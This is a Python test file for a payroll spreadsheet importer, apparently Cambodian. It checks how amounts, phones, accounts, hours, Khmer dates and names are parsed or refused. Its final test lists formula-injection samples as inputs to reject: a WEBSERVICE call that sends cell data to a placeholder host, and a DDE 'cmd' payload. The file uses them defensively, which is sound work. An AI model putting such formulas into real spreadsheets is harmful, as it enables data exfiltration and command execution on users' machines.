"""Single cells: what is read, what is refused, and that nothing is invented in between."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from importers.cells import Fault, read_code, read_name
from importers.csv_file import decode, separator_of
from importers.dates import date_reader
from importers.destinations import read_account, read_phone
from importers.formulas import is_plain_formula
from importers.hours import read_days, read_hours
from importers.khmer import has_hidden_direction, normalise
from importers.money import KHR, USD, Money
from importers.numbers import money_reader
from importers.periods import periods_in

READ_DATE = date_reader(date(2026, 11, 30))
IN_USD, IN_KHR = money_reader(USD, strict=True), money_reader(KHR, strict=True)


@given(st.integers(-(10**9), 10**9), st.sampled_from(["{}", "${}", "$ {}", "{} USD", "USD {}", "'{}", " {} "]))
def test_any_amount_in_any_dress_is_the_same_to_the_cent(cents: int, dress: str) -> None:
    amount = Decimal(abs(cents)).scaleb(-2)
    plain = f"{amount:,.2f}"
    text = dress.format(plain) if cents >= 0 else f"({dress.format(plain).strip()})" if "'" not in dress else f"-{plain}"
    assert IN_USD(text) == Money(cents, USD)
    assert IN_USD(text.translate({48 + n: 0x17E0 + n for n in range(10)})) == Money(cents, USD)


@given(st.integers(0, 10**9))
def test_a_number_cell_is_the_same_to_the_cent(cents: int) -> None:
    assert IN_USD(cents / 100) == Money(cents, USD)


@given(st.lists(st.integers(0, 10**5), min_size=1, max_size=60))
def test_the_noise_of_a_binary_sum_is_no_amount(parts: list[int]) -> None:
    assert IN_USD(sum(part / 100 for part in parts)) == Money(sum(parts), USD)


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("1.025", "amount_ambiguous"),
        ("12..5", "amount_not_read"),
        ("12 apples", "amount_not_read"),
        (210.005, "too_many_decimals"),
        ("៛ 1025000", "currency_differs"),
        ("1e5", "amount_not_read"),
        ("∞", "amount_not_read"),
        ("1,2,3", "amount_not_read"),
    ],
)
def test_amounts_that_are_refused(cell: str | float, code: str) -> None:
    found = IN_USD(cell)
    assert isinstance(found, Fault)
    assert found.code == code


@pytest.mark.parametrize(
    ("cell", "riel"),
    [("៛ 1025000", 1_025_000), ("1,025,000 KHR", 1_025_000), ("1.025.000", 1_025_000), (952_000.0, 952_000), ("១,០២៥,០០០៛", 1_025_000)],
)
def test_riel(cell: str | float, riel: int) -> None:
    assert IN_KHR(cell) == Money(riel, KHR)


@given(st.text(max_size=20))
def test_any_text_in_a_money_cell_is_an_amount_a_fault_or_nothing(text: str) -> None:
    assert isinstance(IN_USD(text), Money | Fault | None)
    assert isinstance(read_hours(text), Decimal | Fault | None)
    assert isinstance(READ_DATE(text), date | Fault | None)
    assert isinstance(read_phone(text), str | Fault | None)
    assert isinstance(read_account(text), str | Fault | None)


@pytest.mark.parametrize(
    ("cell", "phone"),
    [
        ("012 345 678", "+85512345678"),
        ("012 345 6789", "+855123456789"),
        ("+855 (0)97 123 4567", "+855971234567"),
        ("00855971234567", "+855971234567"),
        ("855 12345678", "+85512345678"),
        ("០៩៧១២៣៤៥៦៧", "+855971234567"),
        ("+84 91 234 56 78", "+84912345678"),
    ],
)
def test_phones_as_people_write_them(cell: str, phone: str) -> None:
    assert read_phone(cell) == phone


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("12345678", "phone_lost_zero"),
        (96123456.0, "phone_not_read"),
        (971234567.0, "phone_lost_zero"),
        ("023 123 456", "phone_not_read"),
        ("9.71235E+08", "phone_damaged"),
        ("012345678, 097 1234567", "two_phones"),
        ("call me", "phone_not_read"),
        ("+1 23", "phone_not_read"),
    ],
)
def test_phones_that_are_said(cell: str | float, code: str) -> None:
    found = read_phone(cell)
    assert isinstance(found, Fault)
    assert found.code == code


@given(st.integers(0, 10**14 - 1))
def test_an_account_keeps_every_zero(number: int) -> None:
    text = f"{number:014}"
    assert read_account(text) == text
    assert read_account(f"{text[:4]}-{text[4:6]}-{text[6:12]}-{text[12:]}") == text
    stored = read_account(float(number))
    assert isinstance(stored, Fault)
    assert stored.code == "account_as_number"


@pytest.mark.parametrize("cell", ["1.23457E+13", "4,07952E+14", "123456789.0", 1.2345678901234567e19, -5.0, 12.5, "########"])
def test_an_account_that_lost_digits_is_refused(cell: str | float) -> None:
    found = read_account(cell)
    assert isinstance(found, Fault)
    assert found.code == "account_damaged"


@pytest.mark.parametrize(
    ("cell", "hours"), [("10h30", "10.5"), ("10:30", "10.5"), ("៨ម៉ោង", "8"), (0.0, "0"), ("7.25", "7.25"), ("0:20", "0.3333")]
)
def test_hours(cell: str | float, hours: str) -> None:
    assert read_hours(cell) == Decimal(hours)


@pytest.mark.parametrize("cell", ["25:99", "-3", "800", date(1900, 1, 10), "noon"])
def test_hours_that_are_refused(cell: str | date) -> None:
    assert isinstance(read_hours(cell), Fault)


def test_days_are_those_of_a_month() -> None:
    assert read_days(25.5) == Decimal("25.5")
    assert isinstance(read_days(32.0), Fault)


@given(st.dates(date(1970, 1, 1), date(2026, 11, 30)))
def test_a_date_in_every_usual_spelling(day: date) -> None:
    khmer = ("មករា", "កុម្ភៈ", "មីនា", "មេសា", "ឧសភា", "មិថុនា", "កក្កដា", "សីហា", "កញ្ញា", "តុលា", "វិច្ឆិកា", "ធ្នូ")[day.month - 1]
    for text in (
        day.isoformat(),
        f"{day:%d/%m/%Y}",
        f"{day.day}.{day.month}.{day.year}",
        f"{day:%d-%b-%Y}",
        f"ថ្ងៃទី{day.day} ខែ{khmer} ឆ្នាំ{day.year}",
    ):
        assert READ_DATE(text) == day
    assert READ_DATE(float((day - date(1899, 12, 30)).days)) == day


def test_khmer_names_typed_in_another_order_are_one_name() -> None:
    assert normalise("ស្រ្តី") == normalise("ស្ត្រី")
    assert normalise("សុ\u200bខ  សុភា ") == "សុខ សុភា"
    assert normalise("ក\u17c1\u17b6") == normalise("ក\u17c4")


@given(st.text(alphabet=st.characters(min_codepoint=0x1780, max_codepoint=0x17D3), max_size=12))
def test_normalising_twice_changes_nothing(text: str) -> None:
    assert normalise(normalise(text)) == normalise(text)


def test_names_and_codes_with_hidden_characters_are_refused() -> None:
    assert has_hidden_direction("Sok\u202e")
    assert read_name("Sok\u202eSophea") == Fault("hidden_characters")
    assert read_code("W\x001") == Fault("hidden_characters")
    assert read_code(" W 001 ") == "W001"
    assert read_code(7.0) == "7"
    assert read_code("007") == "007"
    assert read_code("1.2E+5") == Fault("code_damaged")


@pytest.mark.parametrize("text", ["Payroll November 2026", "ខែវិច្ឆិកា ឆ្នាំ២០២៦", "11/2026", "2026-11", "2026年11月", "Nov-2026"])
def test_the_month_in_a_title(text: str) -> None:
    assert {str(found) for found in periods_in(text)} == {"2026-11"}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_text_in_any_encoding(encoding: str) -> None:
    assert (decode("លេខកូដ,ឈ្មោះ,Net pay\n".encode(encoding)) or "").lstrip("\ufeff") == "លេខកូដ,ឈ្មោះ,Net pay\n"


def test_the_separator_is_the_one_that_makes_columns() -> None:
    assert separator_of("a;b;c\n1,5;2,5;3\n2,5;1;2\n") == ";"
    assert separator_of("a\tb\n1\t2\n") == "\t"


@pytest.mark.parametrize(
    ("formula", "plain"),
    [
        ("=SUM(A1:A9)", True),
        ("=ROUND(B2*1.5,2)", True),
        ('=IF(A1>0,"yes (paid)","no")', True),
        ('=WEBSERVICE("http://x/"&A1)', False),
        ("=cmd|' /C calc'!A0", False),
        ("=[1]Sheet1!A1", False),
        ('=HYPERLINK("http://x","y")', False),
        ("=_xlfn.XLOOKUP(A1,B1:B9,C1:C9)", True),
        (None, False),
    ],
)
def test_only_plain_formulas_go_back_to_hr(formula: str | None, *, plain: bool) -> None:
    assert is_plain_formula(formula) is plain
